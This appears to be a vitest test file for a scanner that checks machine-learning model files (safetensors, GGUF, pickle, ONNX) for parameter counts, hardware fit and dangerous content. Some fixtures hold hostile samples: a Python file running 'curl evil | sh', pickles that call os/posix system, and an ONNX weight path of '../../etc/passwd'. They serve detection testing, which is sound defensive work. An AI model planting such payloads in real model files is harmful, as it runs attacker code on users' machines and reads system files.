import { describe, expect, it } from 'vitest';
import { bufferSource, type FileScan, inspectFile, mainOnnxFiles, scanVersion, type VersionFileInput } from '@vetted/formats';
import { buildOnnxModel, mlpModel } from '../../../test/onnx-model.js';
import { ggufFile, GGML, kv } from './gguf-writer.js';
import { constantWeightsModel } from './onnx-constant-model.js';
import { P, pickle } from './pickle-bytes.js';
import { safetensorsFile } from './safetensors-writer.js';
import { osSystemPickle } from './torch-pickles.js';
import { torchZip } from './zip-writer.js';

const file = (path: string, bytes: Buffer | string): VersionFileInput => {
  const data = typeof bytes === 'string' ? Buffer.from(bytes) : bytes;
  return { path, size: data.length, source: bufferSource(data) };
};

describe('scanVersion', () => {
  it('sums a sharded safetensors checkpoint, reads config facts and estimates the hardware fit', async () => {
    const shard1 = safetensorsFile({ 'a.weight': { dtype: 'BF16', shape: [4, 8] } });
    const shard2 = safetensorsFile({ 'b.weight': { dtype: 'BF16', shape: [8] }, 'b.bias': { dtype: 'F32', shape: [2] } });
    const index = JSON.stringify({
      metadata: { total_size: 64 + 16 + 8 },
      weight_map: {
        'a.weight': 'model-00001-of-00002.safetensors',
        'b.weight': 'model-00002-of-00002.safetensors',
        'b.bias': 'model-00002-of-00002.safetensors',
      },
    });
    const config = JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama', max_position_embeddings: 8192 });
    const scan = await scanVersion([
      file('config.json', config),
      file('model-00001-of-00002.safetensors', shard1),
      file('model-00002-of-00002.safetensors', shard2),
      file('model.safetensors.index.json', index),
    ]);
    expect(scan.files.map((f) => [f.path, f.status])).toEqual([
      ['config.json', 'clean'],
      ['model-00001-of-00002.safetensors', 'clean'],
      ['model-00002-of-00002.safetensors', 'clean'],
      ['model.safetensors.index.json', 'clean'],
    ]);
    expect(scan.facts).toMatchObject({
      weightsFrom: { format: 'safetensors', files: ['model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors'] },
      parameters: 42,
      parametersByDtype: { bfloat16: 40, float32: 2 },
      bytesByDtype: { bfloat16: 80, float32: 8 },
      formats: ['safetensors'],
      architecture: 'LlamaForCausalLM',
      contextLength: 8192,
      remoteCode: false,
      benchmarkFiles: [],
    });
    expect(scan.facts.hardwareFit?.fits.every((fit) => fit.fits)).toBe(true);
  });

  it('reports a shard the index names but the version lacks as critical on the index', async () => {
    const index = JSON.stringify({
      weight_map: { 'a.weight': 'model-00001-of-00002.safetensors', 'b.weight': 'model-00002-of-00002.safetensors' },
    });
    const scan = await scanVersion([
      file('model-00001-of-00002.safetensors', safetensorsFile({ 'a.weight': { dtype: 'F16', shape: [2] } })),
      file('model.safetensors.index.json', index),
    ]);
    const indexScan = scan.files.find((f) => f.path === 'model.safetensors.index.json')!;
    expect(indexScan.status).toBe('critical');
    expect(indexScan.findings.map((f) => f.code)).toContain('shard_missing');
  });

  it('flags ONNX external data that leaves the version, and counts the main ONNX graph once', async () => {
    const escaping = buildOnnxModel({
      inputs: [{ name: 'x', type: 'float', shape: [1, 2] }],
      outputs: [{ name: 'y', type: 'float', shape: [1, 2] }],
      nodes: [{ op: 'Add', inputs: ['x', 'w'], outputs: ['y'] }],
      initializers: [{ name: 'w', dims: [2], external: { location: '../../etc/passwd', offset: '0', length: '8' } }],
    });
    const scan = await scanVersion([file('model.onnx', mlpModel(4, 2)), file('onnx/model_quantized.onnx', escaping)]);
    expect(scan.files.find((f) => f.path === 'model.onnx')!.status).toBe('clean');
    const bad = scan.files.find((f) => f.path === 'onnx/model_quantized.onnx')!;
    expect(bad.status).toBe('critical');
    expect(bad.findings.some((f) => f.severity === 'critical' && JSON.stringify(f).includes('../../etc/passwd'))).toBe(true);
    expect(scan.benchmarkCandidates).toEqual(['model.onnx', 'onnx/model_quantized.onnx']);
    expect(scan.facts).toMatchObject({
      weightsFrom: { format: 'onnx', files: ['model.onnx'] },
      parameters: 2 * (16 + 4),
      formats: ['onnx'],
      onnx: [{ path: 'model.onnx', inputs: [{ name: 'x', dtype: 'float32', shape: ['batch', 4] }] }, { path: 'onnx/model_quantized.onnx' }],
    });
  });

  it('labels remote code, scripts and pickles that run code; never calls a file clean it could not read', async () => {
    const scan = await scanVersion([
      file('config.json', JSON.stringify({ auto_map: { AutoModel: 'modeling_evil.EvilModel' } })),
      file('modeling_evil.py', 'import os\nos.system("curl evil | sh")\n'),
      file('weights.dat', Buffer.from("cposix\nsystem\n(S'id'\ntR.", 'latin1')),
      file('model.safetensors', Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff])),
    ]);
    const status = Object.fromEntries(scan.files.map((f) => [f.path, f.status]));
    expect(status).toEqual({
      'config.json': 'warning',
      'modeling_evil.py': 'warning',
      'weights.dat': 'critical',
      'model.safetensors': 'critical',
    });
    expect(scan.facts.remoteCode).toBe(true);
  });

  it('fails closed when an inspector cannot finish in time', async () => {
    const stuck = { size: 1024, read: () => new Promise<Buffer>(() => undefined) };
    const result = await inspectFile('model.safetensors', stuck, 50);
    expect(result).toMatchObject({ status: 'error', findings: [{ severity: 'critical', code: 'scan_failed' }] });
  });
});

/** A model reading `w` [8, 8] float32 (256 bytes) from `location`: exactly 256 bytes, or from offset 0 on. */
const externalDataModel = (location: string, inputName = 'x', exactLength = true) =>
  buildOnnxModel({
    inputs: [{ name: inputName, type: 'float', shape: [8] }],
    outputs: [{ name: 'y', type: 'float', shape: [8] }],
    nodes: [{ op: 'MatMul', inputs: [inputName, 'w'], outputs: ['y'] }],
    initializers: [{ name: 'w', dims: [8, 8], external: { location, offset: '0', ...(exactLength ? { length: '256' } : {}) } }],
  });
const findingCodes = (scan: FileScan) => scan.findings.map((finding) => finding.code);

describe('scanVersion output is storable as jsonb', () => {
  const NUL = '\0';
  const LONE_SURROGATE = '\ud800';
  /** What PostgreSQL refuses: NUL, and UTF-16 surrogates outside a pair. */
  const UNSTORABLE = /\0|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
  const strings = (value: unknown): string[] => {
    if (typeof value === 'string') return [value];
    if (Array.isArray(value)) return value.flatMap(strings);
    if (typeof value !== 'object' || value === null) return [];
    return Object.entries(value).flatMap(([key, item]) => [key, ...strings(item)]);
  };

  it('replaces NUL and lone surrogates from safetensors, GGUF, pickle and ONNX names, and says where', async () => {
    const scan = await scanVersion([
      file('model.safetensors', safetensorsFile({ [`a${NUL}b`]: { dtype: 'F32', shape: [2] } })),
      file('extra.safetensors', safetensorsFile({ c: { dtype: 'F32', shape: [1] } }, { note: `x${LONE_SURROGATE}y` })),
      file(
        'model.gguf',
        ggufFile({ kv: [kv.string('general.architecture', `lla${NUL}ma`)], tensors: [{ name: 'w', dims: [32], type: GGML.F32 }] }),
      ),
      file('model.pkl', pickle(P.PROTO(2), P.GLOBAL(`collections${NUL}x`, 'OrderedDict'), P.EMPTY_TUPLE, P.REDUCE, P.STOP)),
      file('model.onnx', externalDataModel(`w${NUL}.bin`, `x${NUL}y`)),
    ]);
    // JSON.stringify escapes NUL as \u0000 and a lone surrogate as \udxxx (after an even run of backslashes:
    // an odd one is a backslash of the text, as in a message quoting a name with JSON.stringify).
    const json = JSON.stringify(scan);
    expect(json).not.toMatch(/(^|[^\\])(\\\\)*\\u0000/);
    expect(json).not.toMatch(/(^|[^\\])(\\\\)*\\ud[89a-f][0-9a-f]{2}/i);
    expect(strings(scan).filter((text) => UNSTORABLE.test(text))).toEqual([]);

    const warnings = Object.fromEntries(
      scan.files.map((f) => [
        f.path,
        f.findings.filter((finding) => finding.code === 'unstorable_string').map((finding) => finding.evidence),
      ]),
    );
    expect(warnings).toEqual({
      'model.safetensors': [{ where: 'tensorNames[0]', text: 'a\\0b' }],
      'extra.safetensors': [{ where: 'facts.metadata.note', text: 'x\\u{D800}y' }],
      'model.gguf': [{ where: 'facts.architecture', text: 'lla\\0ma' }],
      'model.pkl': [{ where: 'facts.pickles[0].globals[0]', text: 'collections\\0x.OrderedDict' }],
      'model.onnx': [{ where: 'facts.inputs[0].name', text: 'x\\0y' }],
    });
    expect(scan.files.every((f) => f.status !== 'clean')).toBe(true);
    expect(scan.facts.architecture).toBe('lla\uFFFDma');
    expect(scan.facts.onnx[0]!.inputs[0]!.name).toBe('x\uFFFDy');
  });
});

describe('scanVersion and ONNX external data', () => {
  /** 256 bytes of tensor data whose first bytes read as PROTO 2, BININT1 1: a pickle's start, by chance. */
  const tensorData = Buffer.concat([Buffer.from([0x80, 0x02, 0x4b, 0x01]), Buffer.alloc(252, 0xff)]);

  it.each(['weights.bin', 'model.onnx_data'])('judges %s as the external data it is, not as a pickle', async (name) => {
    const scan = await scanVersion([file('model.onnx', externalDataModel(name)), file(name, tensorData)]);
    expect(scan.files.map((f) => [f.path, f.inspector, f.status])).toEqual([
      ['model.onnx', 'onnx', 'clean'],
      [name, 'onnx_external_data', 'clean'],
    ]);
    expect(scan.files[1]!.facts).toEqual({ externalDataOf: ['model.onnx'] });
    expect(scan.facts.formats).toEqual(['onnx']);
  });

  it.each([
    ['a pickle', Buffer.concat([osSystemPickle(), Buffer.alloc(256 - osSystemPickle().length)])],
    ['a torch zip', torchZip(osSystemPickle())],
  ])('still flags %s that an ONNX model names as its external data', async (_, bytes) => {
    const scan = await scanVersion([
      file('model.onnx', externalDataModel('pytorch_model.bin', 'x', false)),
      file('pytorch_model.bin', bytes),
    ]);
    expect(findingCodes(scan.files[1]!)).toEqual(['pickle_dangerous_global']);
    expect(scan.files[1]!.status).toBe('critical');
  });

  it('checks the range against the file it names', async () => {
    const scan = await scanVersion([
      file('model.onnx', externalDataModel('weights.bin')),
      file('weights.bin', tensorData.subarray(0, 100)),
    ]);
    expect(findingCodes(scan.files[0]!)).toEqual(['onnx_external_data_range']);
  });
});

describe('scanVersion weight totals', () => {
  it('counts an ONNX model whose weights are Constant nodes', async () => {
    const scan = await scanVersion([file('model.onnx', constantWeightsModel())]);
    expect(scan.facts).toMatchObject({
      weightsFrom: { format: 'onnx', files: ['model.onnx'] },
      parameters: 27,
      onnx: [{ path: 'model.onnx', parameters: 27 }],
      hardwareFit: { weightBytes: 96 + 1 + 16, weightBytesFrom: 'tensors' },
    });
  });

  it('leaves the total out of an ONNX model without weights, and fits the hardware by file size', async () => {
    const model = buildOnnxModel({
      inputs: [{ name: 'x', type: 'float', shape: [4] }],
      outputs: [{ name: 'y', type: 'float', shape: [4] }],
      nodes: [{ op: 'Relu', inputs: ['x'], outputs: ['y'] }],
    });
    const scan = await scanVersion([file('model.onnx', model)]);
    expect(scan.facts).not.toHaveProperty('parameters');
    expect(scan.facts.onnx[0]!.parameters).toBeNull();
    expect(scan.facts.hardwareFit).toMatchObject({ weightBytes: model.length, weightBytesFrom: 'file sizes' });
  });

  it('leaves the total out when one safetensors shard cannot be read, instead of summing the others', async () => {
    const good = safetensorsFile({ a: { dtype: 'F32', shape: [4] } });
    const broken = Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]);
    const scan = await scanVersion([file('model-00001-of-00002.safetensors', good), file('model-00002-of-00002.safetensors', broken)]);
    expect(scan.facts).not.toHaveProperty('parameters');
    expect(scan.facts).not.toHaveProperty('bytesByDtype');
    expect(scan.facts.hardwareFit).toMatchObject({ weightBytes: good.length + broken.length, weightBytesFrom: 'file sizes' });
  });

  it('sums a split GGUF set, and leaves the total out when a part is missing', async () => {
    const part = (name: string) => ggufFile({ tensors: [{ name, dims: [64], type: GGML.F32 }] });
    const both = await scanVersion([file('m-00001-of-00002.gguf', part('a')), file('m-00002-of-00002.gguf', part('b'))]);
    expect(both.facts).toMatchObject({
      weightsFrom: { format: 'gguf', files: ['m-00001-of-00002.gguf', 'm-00002-of-00002.gguf'] },
      parameters: 128,
    });
    const one = await scanVersion([file('m-00001-of-00002.gguf', part('a'))]);
    expect(one.facts).not.toHaveProperty('parameters');
    expect(one.facts.hardwareFit?.weightBytesFrom).toBe('file sizes');
  });
});

describe('mainOnnxFiles', () => {
  it('picks the main graph and its quantized variant, else the shallowest ONNX file', () => {
    expect(mainOnnxFiles(['onnx/decoder_model.onnx', 'onnx/model.onnx', 'onnx/model_quantized.onnx', 'onnx/model_fp16.onnx'])).toEqual([
      'onnx/model.onnx',
      'onnx/model_quantized.onnx',
    ]);
    expect(mainOnnxFiles(['b/deep/x.onnx', 'encoder.onnx', 'config.json'])).toEqual(['encoder.onnx']);
    expect(mainOnnxFiles(['weights.bin'])).toEqual([]);
  });
});
